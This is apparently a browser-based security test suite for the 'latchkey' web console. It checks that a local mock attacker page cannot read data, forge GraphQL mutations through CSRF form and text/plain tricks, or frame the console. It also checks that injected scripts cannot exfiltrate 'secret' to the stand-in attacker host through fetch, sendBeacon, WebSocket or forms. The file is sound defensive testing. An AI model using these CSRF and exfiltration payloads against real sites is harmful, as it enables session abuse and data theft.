// Somebody is signed in to the console and opens a page of an attacker: it can neither read nor change anything, nor show the console as its own. The attacker is
// on another port of the same host, to which the browser sends the cookie all the same (SameSite counts hosts, not ports), and on another host.
import assert from 'node:assert/strict';
import http from 'node:http';
import { after, before, describe, it } from 'node:test';
import { Server, SLOW } from '../api/support/server.mjs';
import { openBrowser, Visitor } from './support/browser.mjs';

const MUTATION = 'mutation { createUserGroup(input: { name: "made by the attacker" }) { userGroup { id } } }';

/** A web server of the attacker's. Its page is empty; the tests do in it what its script would. */
async function openAttacker() {
  const attacker = http.createServer((request, response) => {
    attacker.asked.push(`${request.method} ${request.url}`);
    response.setHeader('content-type', 'text/html');
    response.setHeader('access-control-allow-origin', '*');
    response.end('<!doctype html><title>attacker</title><link rel="icon" href="data:,"><body>');
  });
  attacker.asked = [];
  await new Promise((resolve) => attacker.listen(0, resolve));
  return attacker;
}

/** A console, a browser and an attacker's page for a suite. */
function besideAttacker() {
  const scene = {};
  before(async () => {
    scene.server = await Server.fresh();
    scene.browser = await openBrowser();
    scene.attacker = await openAttacker();
  });
  after(async () => {
    await scene.browser?.close();
    scene.attacker?.closeAllConnections();
    scene.attacker?.close();
    await scene.server?.stop();
  });
  return scene;
}

describe('a page of another origin', () => {
  const scene = besideAttacker();

  const auditCount = async () => (await scene.server.query('{ audits(limit: 1) { pageInfo { total } } }')).audits.pageInfo.total;

  /** A visitor who is signed in and then looks at the attacker's page, which knows where the console is: window.target. */
  async function lure(host) {
    const visitor = await Visitor.open(scene.browser, scene.server);
    visitor.foreign = true;
    await visitor.signIn();
    visitor.cookie = (await visitor.context.cookies())[0].value;
    visitor.before = await auditCount();
    await visitor.goto(`http://${host}:${scene.attacker.address().port}/`);
    await visitor.page.evaluate((url) => (window.target = url), scene.server.url);
    return visitor;
  }

  /** Nothing has happened, and the visitor is still signed in, as before. */
  async function assertUntouched(visitor) {
    assert.equal(await auditCount(), visitor.before);
    const [cookie] = await visitor.context.cookies();
    assert.equal(cookie.value, visitor.cookie);
    const answer = await visitor.context.request.get('/console/session');
    assert.equal(answer.status(), 200);
    await visitor.close();
  }

  for (const host of ['127.0.0.1', 'localhost']) {
    const sameSite = host === '127.0.0.1';

    it(`${host}: reads nothing`, async () => {
      const visitor = await lure(host);
      const read = (target, options) =>
        visitor.page.evaluate(
          ([path, more]) =>
            fetch(window.target + path, { credentials: 'include', ...more }).then(
              async (answer) => `${answer.type} ${answer.status} ${await answer.text()}`,
              (error) => `failed: ${error.name}`,
            ),
          [target, options],
        );
      const query = '{ viewer { account { id } } }';
      for (const [target, options] of [
        ['/console/session', {}],
        ['/console/', {}],
        [`/graphql?query=${encodeURIComponent(query)}`, {}],
        ['/graphql', { method: 'POST', body: JSON.stringify({ query }), headers: { 'content-type': 'application/json', 'x-latchkey-console': '1' } }],
        ['/graphql', { method: 'POST', body: query }],
      ]) {
        assert.equal(await read(target, options), 'failed: TypeError', target);
        const blind = await read(target, { ...options, mode: 'no-cors' });
        assert.ok(blind === 'opaque 0 ' || blind === 'failed: TypeError', `${target}: ${blind}`);
      }
      for (const tag of ['script', 'img', 'iframe']) {
        const outcome = await visitor.page.evaluate(
          (name) =>
            new Promise((resolve) => {
              const element = document.createElement(name);
              element.src = `${window.target}/console/session`;
              element.onload = () => resolve(name === 'iframe' ? String(element.contentDocument) : 'loaded');
              element.onerror = () => resolve('error');
              document.body.append(element);
            }),
          tag,
        );
        assert.equal(outcome, tag === 'iframe' ? 'null' : 'error', tag);
      }
      await assertUntouched(visitor);
    });

    it(`${host}: changes nothing`, async () => {
      const visitor = await lure(host);
      const { page } = visitor;
      const send = (target, options) => page.evaluate(([path, more]) => fetch(window.target + path, { credentials: 'include', ...more }).then(() => 'sent', () => 'failed'), [target, options]);
      const json = JSON.stringify({ query: MUTATION });
      const ours = { 'content-type': 'application/json', 'x-latchkey-console': '1' };
      // What needs a permission that no preflight gives never leaves the browser as it is.
      for (const [target, options] of [
        ['/graphql', { method: 'POST', body: json, headers: ours }],
        ['/graphql', { method: 'POST', body: json, headers: { 'content-type': 'application/json' } }],
        ['/console/session', { method: 'DELETE' }],
        ['/console/session', { method: 'DELETE', headers: ours }],
        ['/console/session', { method: 'POST', body: '{}', headers: ours }],
      ]) {
        assert.equal(await send(target, options), 'failed', target);
      }
      // What needs none arrives, and is refused.
      for (const [target, body, type] of [
        ['/graphql', json, 'text/plain'],
        ['/graphql', MUTATION, 'text/plain'],
        ['/api/graphql', json, 'text/plain'],
        ['/gateway/api/graphql', new URLSearchParams({ query: MUTATION }).toString(), 'application/x-www-form-urlencoded'],
        ['/gateway/api/graphql-api', new URLSearchParams({ query: MUTATION }).toString(), 'application/x-www-form-urlencoded'],
      ]) {
        const [answer] = await Promise.all([
          page.waitForResponse(scene.server.url + target),
          send(target, { method: 'POST', body, headers: { 'content-type': type }, mode: 'no-cors' }),
        ]);
        // 403: the cookie came along, and did not help. 401: it was not sent, or that address never looks at it.
        assert.match(String(answer.status()), sameSite && !target.endsWith('graphql-api') ? /^403$/ : /^40[13]$/, `${target} ${type}`);
      }
      const signIn = { method: 'POST', body: JSON.stringify({ apiKey: scene.server.account.apiKey }), headers: { 'content-type': 'text/plain' }, mode: 'no-cors' };
      assert.equal(await send('/console/session', signIn), 'failed');
      // Nor does it help to leave the page with a form.
      for (const [target, type, fields] of [
        ['/graphql', 'text/plain', { [`{"query":${JSON.stringify(MUTATION)},"x":"`]: '"}' }],
        ['/graphql', 'multipart/form-data', { query: MUTATION }],
        ['/gateway/api/graphql-api', 'application/x-www-form-urlencoded', { query: MUTATION }],
        ['/console/session', 'text/plain', { '{"apiKey":"': '"}' }],
      ]) {
        const tab = await visitor.newPage();
        await tab.goto(page.url());
        const [answer] = await Promise.all([
          tab.waitForNavigation(),
          tab.evaluate(
            ([action, enctype, inputs]) => {
              const form = Object.assign(document.createElement('form'), { method: 'POST', action, enctype });
              for (const [name, value] of Object.entries(inputs)) form.append(Object.assign(document.createElement('input'), { name, value }));
              document.body.append(form);
              form.submit();
            },
            [scene.server.url + target, type, fields],
          ),
        ]);
        assert.match(String(answer.status()), /^40[13]$/, `${target} ${type}`);
        await tab.close();
      }
      await assertUntouched(visitor);
    });

    it(`${host}: shows no page of ours in its own, and gets no hold of its window`, async () => {
      const visitor = await lure(host);
      const { page } = visitor;
      for (const target of ['/console/', '/explorer', '/console/session']) {
        visitor.complaints.length = 0;
        await page.evaluate(
          (path) =>
            new Promise((resolve) => {
              const frame = Object.assign(document.createElement('iframe'), { src: window.target + path, onload: resolve });
              document.body.append(frame);
            }),
          target,
        );
        assert.equal(page.frames().some((frame) => frame.url() === scene.server.url + target && target !== '/console/session'), false, target);
        if (target !== '/console/session') assert.match(visitor.complaints.join('\n'), /frame-ancestors 'none'|X-Frame-Options/i);
      }
      const [popup] = await Promise.all([
        visitor.context.waitForEvent('page'),
        page.evaluate(() => {
          window.held = window.open(`${window.target}/console/`);
        }),
      ]);
      await popup.waitForLoadState();
      assert.equal(await popup.evaluate(() => window.opener), null);
      await page.waitForFunction(() => window.held.closed); // the browser tells the opener a moment later
      await assertUntouched(visitor);
    });
  }

  it('would have changed something had it been ours', async () => {
    const visitor = await Visitor.open(scene.browser, scene.server);
    await visitor.signIn();
    await visitor.goto('/console/');
    const before = await auditCount();
    const status = await visitor.page.evaluate(
      (query) => fetch('/graphql', { method: 'POST', headers: { 'content-type': 'application/json', 'x-latchkey-console': '1' }, body: JSON.stringify({ query }) }).then((answer) => answer.status),
      MUTATION,
    );
    assert.equal(status, 200);
    assert.equal(await auditCount(), before + 1);
    assert.equal(await visitor.page.evaluate(() => document.cookie), '');
    visitor.assertQuiet();
    await visitor.close();
  });
});

describe('a script that got into a page', () => {
  const scene = besideAttacker();

  for (const target of ['/console/', '/explorer']) {
    it(`runs nothing inline on ${target} and tells nobody`, async () => {
      const visitor = await Visitor.open(scene.browser, scene.server);
      const { page } = visitor;
      await visitor.goto(target);
      const evil = `http://127.0.0.1:${scene.attacker.address().port}`;
      await page.evaluate((url) => {
        window.seen = [];
        document.addEventListener('securitypolicyviolation', (event) => window.seen.push(`${event.effectiveDirective} ${event.blockedURI}`));
        const add = (name, properties, parent = document.body) => parent.append(Object.assign(document.createElement(name), properties));
        add('script', { textContent: 'window.pwned = "inline"' });
        add('div', { innerHTML: `<img src="data:," onerror="window.pwned = 'handler'"><p style="color: red">x</p><style>p { color: red }</style>` });
        // Later, since what the debugger itself runs may evaluate texts.
        setTimeout(() => {
          const link = Object.assign(document.createElement('a'), { href: "javascript:window.pwned = 'link'" });
          document.body.append(link);
          link.click();
          try {
            window.eval('window.pwned = "eval"');
          } catch {
            // as it should
          }
        });
        add('script', { src: `${url}/script` });
        add('img', { src: `${url}/img` });
        add('iframe', { src: `${url}/iframe` });
        add('object', { data: `${url}/object` });
        add('audio', { src: `${url}/audio` });
        add('link', { rel: 'stylesheet', href: `${url}/style` }, document.head);
        add('base', { href: url }, document.head);
        const form = Object.assign(document.createElement('form'), { action: `${url}/form`, method: 'POST' });
        document.body.append(form);
        form.submit();
        fetch(`${url}/fetch`, { method: 'POST', body: 'secret' }).catch(() => {});
        navigator.sendBeacon(`${url}/beacon`, 'secret');
        try {
          new WebSocket(`${url.replace('http', 'ws')}/socket`);
        } catch {
          // as it should
        }
      }, evil);
      const stopped = [
        'script-src-elem inline', 'script-src-attr inline', 'script-src eval', 'style-src-attr inline', 'style-src-elem inline', `script-src-elem ${evil}/script`,
        `img-src ${evil}/img`, `frame-src ${evil}`, `object-src ${evil}`, `media-src ${evil}/audio`, `style-src-elem ${evil}/style`, `base-uri ${evil}`,
        `form-action ${evil}/form`, `connect-src ${evil}/fetch`, `connect-src ${evil}/beacon`, `connect-src ${evil.replace('http', 'ws')}/socket`,
      ];
      const missing = () => page.evaluate((expected) => expected.filter((one) => !window.seen.some((seen) => seen.startsWith(one))), stopped);
      await page.waitForFunction((expected) => expected.every((one) => window.seen.some((seen) => seen.startsWith(one))), stopped, { timeout: 5000 * SLOW }).catch(() => {});
      assert.deepEqual(await missing(), [], `seen: ${await page.evaluate(() => window.seen.join(', '))}`);
      assert.equal(await page.evaluate(() => window.pwned), undefined);
      assert.deepEqual(scene.attacker.asked, []);
      await visitor.close();
    });
  }
});
